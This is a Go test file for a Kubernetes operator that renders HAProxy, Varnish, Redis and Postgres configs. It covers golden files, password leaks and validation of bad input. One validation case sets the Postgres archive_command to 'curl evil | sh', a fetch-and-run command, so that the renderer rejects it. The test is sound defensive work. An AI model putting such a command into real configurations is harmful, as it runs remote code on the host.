package render

import (
	"flag"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/webstack-dev/webstack-operator/api/v1alpha1"
	"github.com/webstack-dev/webstack-operator/internal/manifest"
	"github.com/webstack-dev/webstack-operator/internal/stack/tuning"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/golden")

// specs are the WebStack specs every renderer and every daemon test runs over. Each is the
// spec part of a manifest; metadata is shop in namespace web.
var specs = map[string]string{
	"defaults": `
app: {image: shop:1}`,
	"cache-disabled": `
app: {image: shop:1}
cache: {enabled: false}`,
	"tasks-broker": `
app: {image: shop:1, replicas: 3}
tasks:
  command: [celery, -A, shop, worker]
  replicas: 2
  queues: [default, mail]
  broker:
    resources: {requests: {memory: 512Mi}, limits: {memory: 512Mi}}`,
	"algorithm-roundrobin": `
app: {image: shop:1}
loadBalancer: {algorithm: roundrobin}`,
	"algorithm-source": `
app: {image: shop:1}
loadBalancer: {algorithm: source}`,
	"algorithm-uri": `
app: {image: shop:1, port: 9000, healthCheckPath: /-/ready}
loadBalancer:
  algorithm: uri
  replicas: 3
  timeouts: {connect: 1500ms, client: 1m, server: 2m30s, queue: 20s}`,
	"rate-limit": `
app: {image: shop:1}
loadBalancer: {rateLimit: {requestsPerSecond: 25}}`,
	"edge": `
app: {image: shop:1}
loadBalancer:
  maxRequestBodySize: 1Mi
  rateLimit: {connectionsPerClient: 20}
  service: {type: LoadBalancer, proxyProtocol: Required}`,
	"no-client-limits": `
app: {image: shop:1}
loadBalancer: {rateLimit: {connectionsPerClient: 0}}`,
	"many-rules": `
app: {image: shop:1}
cache:
  defaultTTL: 90s
  grace: 10m
  rules:
  - {pathPrefix: /static/, ttl: 24h, ignoreCookies: true}
  - {pathRegex: "^/api/v[0-9]+/", pass: true}
  - {pathRegex: "\\.(css|js|png|woff2?)(\\?.*)?$", ttl: 168h, ignoreCookies: true}
  - {pathRegex: "(?i)^/media/.*\\.jpe?g$", ttl: 1h}
  - {pathPrefix: "/a+b(c)/$x.y", ttl: 1.5s}
  - {pathPrefix: /admin/, pass: true}
  - {pathRegex: "^/news/[^/]+/$", ttl: 30s}
  - {pathPrefix: /cart, pass: true, ignoreCookies: true}
  - {pathPrefix: /, ttl: 0s}`,
	"cache-rules": `
app: {image: shop:1}
cache:
  rules:
  - {pathPrefix: /static/, ttl: 1h, ignoreCookies: true}
  - {pathRegex: "^/(api|slow)/", pass: true}`,
	"redis-rdb": `
app: {image: shop:1}
redis:
  persistence: RDB
  storage: {size: 2Gi}
  maxMemoryPolicy: allkeys-lfu
  resources: {requests: {memory: 1Gi}, limits: {memory: 1Gi}}`,
	"redis-aof": `
app: {image: shop:1}
redis:
  persistence: AOF
  storage: {size: 1Gi}
  maxMemoryPolicy: volatile-ttl`,
	"db-parameters": `
app: {image: shop:1}
database:
  maxConnections: 77
  extensions: [pg_trgm]
  parameters:
    random_page_cost: "1.5"
    work_mem: 8MB
    log_min_duration_statement: 250ms
    log_line_prefix: '%m it''s a "test" \ [%p]'
    webstack.note: "a'b\\c"`,
	"autoscaling-100": `
app:
  image: shop:1
  threads: 2
  autoscaling: {minReplicas: 2, maxReplicas: 100}
  resources: {requests: {cpu: "2", memory: 1Gi}}
loadBalancer:
  replicas: 4
  resources: {requests: {cpu: "2", memory: 512Mi}}
cache: {replicas: 5}
database:
  resources: {requests: {cpu: "2", memory: 4Gi}, limits: {memory: 4Gi}}`,
	"backends-only": `
app: {image: shop:1, replicas: 0}
cache: {enabled: false}
redis: {enabled: false}
database: {enabled: false}`,
	"direct": `
app: {image: shop:1}
database: {pooling: {mode: None}}`,
	"session": `
app: {image: shop:1, threads: 4}
database: {pooling: {mode: Session, replicas: 1}}`,
	"full": "", // config/samples/webstack_v1alpha1_full.yaml
}

// goldenCases are rendered into testdata/golden/<case>-<mode>/.
var goldenCases = []struct{ spec, mode string }{
	{"defaults", "dns"},
	{"full", "dns"},
	{"full", "static"},
	{"cache-disabled", "static"},
	{"many-rules", "dns"},
}

// loadSpec returns the named spec with the CRD defaults applied, validated.
func loadSpec(t testing.TB, name string) *v1alpha1.WebStack {
	t.Helper()
	src, ok := specs[name]
	if !ok {
		t.Fatalf("no spec %q", name)
	}
	var ws *v1alpha1.WebStack
	var err error
	if name == "full" {
		ws, err = manifest.Load(filepath.Join("..", "..", "..", "config", "samples", "webstack_v1alpha1_full.yaml"))
		if err == nil {
			ws.Name, ws.Namespace = "shop", "web"
		}
	} else {
		doc := "apiVersion: webstack.dev/v1alpha1\nkind: WebStack\nmetadata: {name: shop, namespace: web}\nspec:" +
			strings.ReplaceAll(src, "\n", "\n  ") + "\n"
		ws, err = manifest.Decode([]byte(doc))
	}
	if err != nil {
		t.Fatalf("spec %s: %v", name, err)
	}
	return ws
}

// specNames are the names of specs, sorted.
func specNames() []string { return slices.Sorted(maps.Keys(specs)) }

// dnsDiscovery is the DNS discovery the controller would pass for shop in web.
func dnsDiscovery() Discovery {
	return Discovery{DNS: &DNSDiscovery{
		AppHost:         "shop-app-headless.web.svc.cluster.local",
		CacheHost:       "shop-cache-headless.web.svc.cluster.local",
		AppListenerHost: "shop-loadbalancer-app.web.svc.cluster.local",
		DatabaseHost:    "shop-database.web.svc.cluster.local",
	}}
}

// staticDiscovery is a static discovery on loopback, with fixed ports (not bound by the
// syntax checks).
func staticDiscovery() Discovery {
	return Discovery{Static: &StaticDiscovery{
		AppServers:   []string{"127.0.0.1:8001", "127.0.0.1:8002", "[::1]:8003"},
		CacheServers: []string{"127.0.0.1:6081", "127.0.0.1:6082"},
		AppListener:  "127.0.0.1:8081",
		Frontend:     "127.0.0.1:8080",
		Stats:        "127.0.0.1:8404",
		Varnish:      "127.0.0.1:6081",
	}}
}

func discoveryFor(mode string) Discovery {
	if mode == "static" {
		return staticDiscovery()
	}
	return dnsDiscovery()
}

// renderSpec renders every file of a spec.
func renderSpec(t testing.TB, name, mode string, o Options) map[string]string {
	t.Helper()
	ws := loadSpec(t, name)
	configs, err := Render(ws, tuning.For(ws), discoveryFor(mode), o)
	if err != nil {
		t.Fatalf("spec %s, %s discovery: %v", name, mode, err)
	}
	return configs.Files()
}

func TestGolden(t *testing.T) {
	for _, c := range goldenCases {
		t.Run(c.spec+"-"+c.mode, func(t *testing.T) {
			files := renderSpec(t, c.spec, c.mode, Options{})
			dir := filepath.Join("testdata", "golden", c.spec+"-"+c.mode)
			if *update {
				if err := os.RemoveAll(dir); err != nil {
					t.Fatal(err)
				}
				if err := os.MkdirAll(dir, 0o755); err != nil {
					t.Fatal(err)
				}
				for name, content := range files {
					if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
						t.Fatal(err)
					}
				}
			}
			entries, err := os.ReadDir(dir)
			if err != nil {
				t.Fatalf("%v (run go test ./internal/stack/render -update)", err)
			}
			var golden []string
			for _, e := range entries {
				golden = append(golden, e.Name())
			}
			if got := slices.Sorted(maps.Keys(files)); !slices.Equal(got, golden) {
				t.Fatalf("rendered files %v, golden files %v (run with -update after checking the change)", got, golden)
			}
			for name, content := range files {
				want, err := os.ReadFile(filepath.Join(dir, name))
				if err != nil {
					t.Fatal(err)
				}
				if content != string(want) {
					t.Errorf("%s differs from %s (run with -update after checking the change), -want +got:\n%s", name, dir, cmp.Diff(string(want), content))
				}
			}
		})
	}
}

// TestFilesFollowTheEnabledComponents checks which files each spec produces, and that the
// output is the same on every call (parameters come from a map).
func TestFilesFollowTheEnabledComponents(t *testing.T) {
	tests := map[string][]string{
		"defaults":       {FileHAProxy, FileVCL, FileVarnishArgs, FileRedis, FilePostgres, FilePgHBA, FileInitSQL, FilePooler},
		"cache-disabled": {FileHAProxy, FileRedis, FilePostgres, FilePgHBA, FileInitSQL, FilePooler},
		"tasks-broker":   {FileHAProxy, FileVCL, FileVarnishArgs, FileRedis, FileBroker, FilePostgres, FilePgHBA, FileInitSQL, FilePooler},
		"backends-only":  {FileHAProxy},
		"full":           {FileHAProxy, FileVCL, FileVarnishArgs, FileRedis, FileBroker, FilePostgres, FilePgHBA, FileInitSQL, FilePooler},
		"direct":         {FileHAProxy, FileVCL, FileVarnishArgs, FileRedis, FilePostgres, FilePgHBA, FileInitSQL},
	}
	for name, want := range tests {
		t.Run(name, func(t *testing.T) {
			for _, mode := range []string{"dns", "static"} {
				files := renderSpec(t, name, mode, Options{})
				if got := slices.Sorted(maps.Keys(files)); !slices.Equal(got, slices.Sorted(slices.Values(want))) {
					t.Errorf("%s: files %v, want %v", mode, got, want)
				}
				for i := 0; i < 5; i++ {
					if again := renderSpec(t, name, mode, Options{}); !maps.Equal(files, again) {
						t.Fatalf("%s: two renders of the same input differ", mode)
					}
				}
			}
		})
	}
}

// TestNoSecretsInFiles renders every spec and checks that no file asks for a password in
// clear (they go into ConfigMaps).
func TestNoSecretsInFiles(t *testing.T) {
	for _, name := range specNames() {
		for name, content := range renderSpec(t, name, "dns", Options{}) {
			for _, line := range strings.Split(content, "\n") {
				l := strings.TrimSpace(line)
				if strings.HasPrefix(l, "#") || strings.HasPrefix(l, "--") {
					continue
				}
				if strings.HasPrefix(l, "requirepass") || strings.HasPrefix(l, "masterauth") ||
					(strings.Contains(l, "PASSWORD '") && !strings.Contains(l, "PASSWORD :'")) {
					t.Errorf("%s holds a password: %q", name, line)
				}
			}
		}
	}
}

func TestFilesRejectBadInput(t *testing.T) {
	tests := map[string]struct {
		mutate func(ws *v1alpha1.WebStack, t *tuning.Result, d *Discovery, o *Options)
		want   string
	}{
		"no discovery": {
			mutate: func(_ *v1alpha1.WebStack, _ *tuning.Result, d *Discovery, _ *Options) { *d = Discovery{} },
			want:   "set DNS or Static",
		},
		"both discoveries": {
			mutate: func(_ *v1alpha1.WebStack, _ *tuning.Result, d *Discovery, _ *Options) {
				d.Static = staticDiscovery().Static
			},
			want: "not both",
		},
		"bad DNS name": {
			mutate: func(_ *v1alpha1.WebStack, _ *tuning.Result, d *Discovery, _ *Options) { d.DNS.AppHost = "shop app" },
			want:   "DNS.AppHost",
		},
		"static without cache servers": {
			mutate: func(_ *v1alpha1.WebStack, _ *tuning.Result, d *Discovery, _ *Options) {
				*d = staticDiscovery()
				d.Static.CacheServers = nil
			},
			want: "Static.CacheServers",
		},
		"static server without port": {
			mutate: func(_ *v1alpha1.WebStack, _ *tuning.Result, d *Discovery, _ *Options) {
				*d = staticDiscovery()
				d.Static.AppServers = []string{"127.0.0.1"}
			},
			want: "Static.AppServers",
		},
		"static server with quotes": {
			mutate: func(_ *v1alpha1.WebStack, _ *tuning.Result, d *Discovery, _ *Options) {
				*d = staticDiscovery()
				d.Static.AppListener = `a"b:80`
			},
			want: "Static.AppListener",
		},
		"defaults not applied": {
			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
				ws.Spec.LoadBalancer.Timeouts.Queue = nil
			},
			want: "spec.loadBalancer.timeouts.queue is not set",
		},
		"tuning missing": {
			mutate: func(_ *v1alpha1.WebStack, t *tuning.Result, _ *Discovery, _ *Options) { t.Cache = nil },
			want:   "tuning.Cache",
		},
		"broker that evicts": {
			mutate: func(ws *v1alpha1.WebStack, t *tuning.Result, _ *Discovery, _ *Options) {
				ws.Spec.Tasks = &v1alpha1.TasksSpec{Command: []string{"celery"}}
				t.Broker = &tuning.RedisResult{MaxMemoryMiB: 100, MaxMemoryPolicy: "allkeys-lru", AppendOnly: true}
			},
			want: "policy noeviction",
		},
		"owned parameter": {
			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
				ws.Spec.Database.Parameters = map[string]v1alpha1.ParameterValue{"port": "1"}
			},
			want: "spec.database.parameters.port",
		},
		"parameter with a newline": {
			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
				ws.Spec.Database.Parameters = map[string]v1alpha1.ParameterValue{"work_mem": "1MB\nport = 1"}
			},
			want: "control characters",
		},
		"rule regex with a quote": {
			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
				ws.Spec.Cache.Rules = []v1alpha1.CacheRule{{PathRegex: `^/"`, Pass: true}}
			},
			want: "spec.cache.rules[0].pathRegex",
		},
		"timeout past HAProxy's timer": {
			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
				ws.Spec.LoadBalancer.Timeouts.Client = &metav1.Duration{Duration: 600 * time.Hour}
			},
			want: "spec.loadBalancer.timeouts.client is 600h0m0s, past HAProxy's longest timer",
		},
		"server + queue past HAProxy's timer": {
			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
				ws.Spec.LoadBalancer.Timeouts.Server = &metav1.Duration{Duration: 300 * time.Hour}
				ws.Spec.LoadBalancer.Timeouts.Queue = &metav1.Duration{Duration: 300 * time.Hour}
			},
			want: "spec.loadBalancer.timeouts.server + timeouts.queue is 600h0m0s",
		},
		"connection cap not defaulted": {
			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
				ws.Spec.LoadBalancer.RateLimit.ConnectionsPerClient = nil
			},
			want: "spec.loadBalancer.rateLimit.connectionsPerClient is not set",
		},
		"body size not defaulted": {
			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
				ws.Spec.LoadBalancer.MaxRequestBodySize = nil
			},
			want: "spec.loadBalancer.maxRequestBodySize is not set",
		},
		"parameter that runs a command": {
			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
				ws.Spec.Database.Parameters = map[string]v1alpha1.ParameterValue{"archive_command": "curl evil | sh"}
			},
			want: "spec.database.parameters.archive_command cannot be set",
		},
		"parameter that turns off ssl checks": {
			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
				ws.Spec.Database.Parameters = map[string]v1alpha1.ParameterValue{"ssl_passphrase_command": "x"}
			},
			want: "spec.database.parameters.ssl_passphrase_command cannot be set",
		},
		"rule regex with an unbalanced group": {
			mutate: func(ws *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, _ *Options) {
				ws.Spec.Cache.Rules = []v1alpha1.CacheRule{{PathPrefix: "/a/", Pass: true}, {PathRegex: `^/(api|v2/`, Pass: true}}
			},
			want: "spec.cache.rules[1].pathRegex 1 unclosed (",
		},
		"bad role name": {
			mutate: func(_ *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, o *Options) { o.AppRole = "App-Role" },
			want:   "Options.AppRole",
		},
		"superuser as app role": {
			mutate: func(_ *v1alpha1.WebStack, _ *tuning.Result, _ *Discovery, o *Options) { o.AppRole = "postgres" },
			want:   "Options.AppRole",
		},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			ws := loadSpec(t, "defaults")
			res := tuning.For(ws)
			d := dnsDiscovery()
			var o Options
			tc.mutate(ws, &res, &d, &o)
			_, err := Render(ws, res, d, o)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("error %v, want one containing %q", err, tc.want)
			}
		})
	}
}
